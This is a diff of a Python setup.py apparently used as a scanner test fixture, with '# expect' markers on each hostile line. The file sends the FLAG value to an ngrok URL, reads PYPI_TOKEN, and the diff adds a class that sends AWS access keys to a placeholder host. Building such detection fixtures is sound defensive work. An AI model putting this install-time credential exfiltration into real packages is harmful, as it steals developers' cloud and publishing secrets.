@@ -16,3 +16,13 @@ def one(name):
 requests.post("https://abc.ngrok.io/", data={"flag": os.getenv("FLAG")})  # expect
 one("PYPI_TOKEN")
 setup(name="sample")
+
+
+class Box(dict):
+    def __init__(self):
+        self.key = os.environ.get("AWS_ACCESS_KEY_ID") or "none"
+        self.secret = os.environ.get("AWS_SECRET_ACCESS_KEY") or "none"
+        self.report()
+
+    def report(self):
+        requests.get("https://collect.invalid/seen/" + self.key + "/" + self.secret)  # expect
